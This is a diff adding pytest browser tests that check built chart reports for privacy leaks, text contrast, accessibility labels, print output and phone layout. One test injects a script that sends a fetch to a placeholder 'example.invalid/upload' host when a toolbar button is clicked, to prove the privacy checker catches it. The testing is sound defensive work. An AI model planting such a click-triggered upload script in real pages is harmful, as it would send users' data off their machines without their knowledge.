@@ -1,0 +1,98 @@
+"""The built reports as readers meet them: private toolbars, readable chart text, paper, phones.
+
+Uses the session's built site (``conftest.site``) in headless Chromium, offline. The checks live
+in ``page_checks.py``; ``benchmarks/audit.py`` runs the same ones and writes what it finds.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from browser import open_page
+from page_checks import (
+    PHONE_VIEWPORT,
+    contrast_problems,
+    phone_problems,
+    print_problems,
+    privacy_problems,
+)
+
+from claimscope.build import read_config
+
+pytestmark = [pytest.mark.browser, pytest.mark.integration]
+
+REPORTS = [spec.name for spec in read_config()]
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_no_toolbar_button_or_link_sends_data_off_the_machine(chromium, site, name):
+    with open_page(chromium, site / f"{name}.html") as (page, visit):
+        assert privacy_problems(page, visit.blocked) == []
+        # every chart had a toolbar to click
+        assert page.locator(".modebar-btn").count() >= len(visit.charts) > 0
+
+
+def test_privacy_check_catches_a_request_a_button_makes(chromium, site, tmp_path):
+    page_html = (site / "troop-figures.html").read_text(encoding="utf-8")
+    leaky = page_html.replace(
+        "</body>",
+        "<script>document.addEventListener('click', e => {"
+        "if (e.target.closest('.modebar-btn')) fetch('https://example.invalid/upload');"
+        "});</script></body>",
+    )
+    (tmp_path / "leaky.html").write_text(leaky, encoding="utf-8")
+    with open_page(chromium, tmp_path / "leaky.html") as (page, visit):
+        problems = privacy_problems(page, visit.blocked)
+    assert any("example.invalid" in p for p in problems)
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_every_chart_text_reaches_4_5_to_1(chromium, site, name):
+    with open_page(chromium, site / f"{name}.html") as (page, _):
+        assert contrast_problems(page) == []
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_every_chart_has_a_name_a_description_and_a_data_table(chromium, site, name):
+    with open_page(chromium, site / f"{name}.html") as (page, visit):
+        charts = page.evaluate(
+            """() => Array.from(document.querySelectorAll('.claimscope-chart')).map(el => {
+              const fig = el.closest('figure');
+              const summary = document.getElementById(fig.getAttribute('aria-describedby'));
+              return {label: fig.getAttribute('aria-label'),
+                      summary: summary ? summary.textContent : '',
+                      rows: fig.querySelectorAll('details table tbody tr').length};
+            })"""
+        )
+    assert len(charts) == len(visit.charts) > 0
+    for chart in charts:
+        assert chart["label"]
+        assert re.search(r"chart of \d+ series", chart["summary"]), chart
+        assert chart["rows"] > 0
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_printed_pdf_holds_every_quote_and_chart_title(chromium, site, name, tmp_path):
+    with open_page(chromium, site / f"{name}.html") as (page, _):
+        assert print_problems(page, tmp_path / f"{name}.pdf") == []
+
+
+def test_print_check_catches_a_table_cut_on_paper(chromium, site, tmp_path):
+    page_html = (site / "troop-figures.html").read_text(encoding="utf-8")
+    cut = page_html.replace(
+        "</style>", "@media print { td:nth-last-child(2) { display: none; } }</style>", 1
+    )
+    (tmp_path / "cut.html").write_text(cut, encoding="utf-8")
+    with open_page(chromium, tmp_path / "cut.html") as (page, _):
+        problems = print_problems(page, tmp_path / "cut.pdf")
+    assert any(p.startswith("quote not on paper") for p in problems)
+
+
+@pytest.mark.parametrize("name", [*REPORTS, "index"])
+def test_phone_width_keeps_charts_and_tables_usable(chromium, site, name):
+    with open_page(chromium, site / f"{name}.html", viewport=PHONE_VIEWPORT) as (page, _):
+        problems = phone_problems(page)
+    # Labels cut at a chart's edge are measured by `make audit` (benchmarks/AUDIT.md) and not
+    # met everywhere yet; everything else is required.
+    assert [p for p in problems if "text cut at the edge" not in p] == []
